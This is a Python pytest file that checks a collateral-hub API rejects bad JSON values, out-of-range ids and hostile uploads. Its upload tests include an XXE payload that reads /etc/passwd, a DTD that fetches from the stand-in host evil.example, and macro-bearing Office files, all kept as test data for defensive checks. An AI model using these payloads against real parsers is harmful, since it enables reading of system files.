"""Bad input (issue 11, ASVS 5.0 V1/V2): what JSON lets through but no field can hold is a 422
naming the field, never a 500 or a stored "nan"; out-of-range ids are 404 for every method; every
405 says what is allowed."""
import pytest
from sqlalchemy import func, select

from hub.extensions import db
from hub.library.models import Collateral

LONE = '"bad \\ud800 text"'  # a JSON string escape for an unpaired surrogate


def raw(client, method, path, body, headers):
    return client.open(path, method=method, data=body, headers={**headers, "Content-Type": "application/json"})


@pytest.fixture
def api(app, client, make_user, make_item, token_for):
    """An editor's and a rep's headers, an approved item and a content request."""
    from hub.usage import feedback

    editor, rep = make_user("marketing"), make_user("sales")
    item = make_item("approved", title="Pricing")
    req = feedback.create_request(rep, {"title": "Banking case study"})
    db.session.commit()
    return {"editor": token_for(editor), "rep": token_for(rep), "item": item.id, "request": req.id}


def endpoints(api):
    """(method, path, who, body template with {v} where the bad value goes, field)."""
    item, req = api["item"], api["request"]
    return [
        ("PATCH", f"/api/v1/collateral/{item}", "editor", '{{"title": {v}}}', "title"),
        ("POST", "/api/v1/requests", "rep", '{{"title": {v}}}', "title"),
        ("PATCH", f"/api/v1/requests/{req}", "editor", '{{"reason": {v}, "status": "declined"}}', "reason"),
        ("POST", "/api/v1/calendar/entries", "editor",
         '{{"title": {v}, "kind": "webinar", "starts_at": "2026-03-01T10:00:00Z", "ends_at": "2026-03-01T11:00:00Z"}}',
         "title"),
        ("POST", "/api/v1/ratings", "rep", f'{{{{"collateral_id": {item}, "rating": 4, "comment": {{v}}}}}}', "comment"),
        ("POST", f"/api/v1/collateral/{item}/shares", "rep", '{{"recipient": {v}}}', "recipient"),
        ("POST", "/api/v1/usage", "rep",
         (f'{{{{"collateral_id": {item}, "action": "used_in_deal", "account": {{v}}, "opportunity": "OPP-1", '
          '"stage": "decision"}}'), "account"),
    ]


@pytest.mark.parametrize("value", [LONE, "NaN", "Infinity", "-Infinity", "0", "12.5", "true", '["a"]', '{"a": 1}'])
def test_json_values_no_field_can_hold_are_422_naming_the_field(app, client, api, value):
    before = db.session.scalar(select(func.max(Collateral.updated_at)))
    for method, path, who, template, field in endpoints(api):
        response = raw(client, method, path, template.format(v=value), api[who])
        assert response.status_code == 422, (method, path, value, response.get_data(as_text=True))
        assert response.get_json()["error"]["field"] == field, (method, path, value)
    assert db.session.scalar(select(func.max(Collateral.updated_at))) == before
    assert db.session.get(Collateral, api["item"]).title == "Pricing"


def test_a_surrogate_deep_inside_a_list_is_refused_too(app, client, api):
    body = ('{"title": "Launch", "kind": "webinar", "starts_at": "2026-03-01T10:00:00Z", '
            '"ends_at": "2026-03-01T11:00:00Z", "products": ["ok", "\\udfff"]}')
    response = raw(client, "POST", "/api/v1/calendar/entries", body, api["editor"])
    assert response.status_code == 422 and response.get_json()["error"]["field"] == "products"


@pytest.mark.parametrize("method", ["GET", "PATCH", "DELETE", "PUT", "POST"])
@pytest.mark.parametrize("path", ["/api/v1/collateral/{n}", "/api/v1/shares/{n}", "/api/v1/requests/{n}",
                                  "/api/v1/calendar/entries/{n}"])
@pytest.mark.parametrize("n", ["2147483648", "99999999999999999999"])
def test_ids_beyond_the_databases_range_are_404_for_every_method(app, client, api, method, path, n):
    response = client.open(path.format(n=n), method=method, json={}, headers=api["editor"])
    assert response.status_code == 404, response.get_data(as_text=True)


def test_every_405_says_what_is_allowed(app, client, api):
    for rule in app.url_map.iter_rules():
        if "<" in rule.rule or rule.endpoint == "static":
            continue
        for method in ("DELETE", "PATCH", "PUT"):
            if method in rule.methods:
                continue
            response = client.open(rule.rule, method=method, headers=api["editor"])
            if response.status_code == 405:
                allowed = {m.strip() for m in response.headers.get("Allow", "").split(",") if m.strip()}
                assert allowed >= (rule.methods - {"OPTIONS", "HEAD"}), (rule.rule, method, response.headers)


# --- uploads the bad-input rules refuse are refused at upload, not stored -------------------------


def office(parts, content_types="<Types/>"):
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", content_types)
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


DOC = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
XXE = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:document>')


@pytest.mark.parametrize("data,name,message", [
    (office({"word/document.xml": DOC, "word/vbaProject.bin": b"\x00macro"}), "plan.docx", "macros"),
    (office({"word/document.xml": DOC},
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
     "plan.docx", "macros"),
    (office({"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": b"\x00"}), "model.xlsm", "macros"),
    (office({"word/document.xml": XXE}), "xxe.docx", "DTD"),
    (office({"word/document.xml": DOC, "word/_rels/document.xml.rels": '<!DOCTYPE r SYSTEM "http://evil.example/x">'}),
     "rels.docx", "DTD"),
    (b"just some notes\n", "notes.exe", "named .exe"),
    (b"just some notes\n", "notes.pdf", "named .pdf"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "logo.jpg", "named .jpg"),
])
def test_uploads_the_rules_refuse_are_never_stored(app, client, make_user, token_for, data, name, message):
    import io
    from pathlib import Path

    from hub.library.models import FileVersion

    response = client.post("/api/v1/collateral", headers=token_for(make_user("marketing")), data={
        "title": "Hostile", "content_type": "other", "stages": "awareness", "file": (io.BytesIO(data), name)})
    assert response.status_code == 422, response.get_data(as_text=True)
    error = response.get_json()["error"]
    assert error["field"] == "file" and message.lower() in error["message"].lower()
    assert db.session.scalar(select(FileVersion.id)) is None
    assert not any(Path(app.config["UPLOAD_FOLDER"]).iterdir())


@pytest.mark.parametrize("name", ["notes.txt", "notes.md", "notes", "Q3 notes v1.2"])
def test_text_under_a_text_name_or_no_extension_is_accepted(app, client, make_user, token_for, name):
    import io

    response = client.post("/api/v1/collateral", headers=token_for(make_user("marketing")), data={
        "title": "Notes", "content_type": "other", "stages": "awareness", "file": (io.BytesIO(b"notes\n"), name)})
    assert response.status_code == 201, response.get_data(as_text=True)
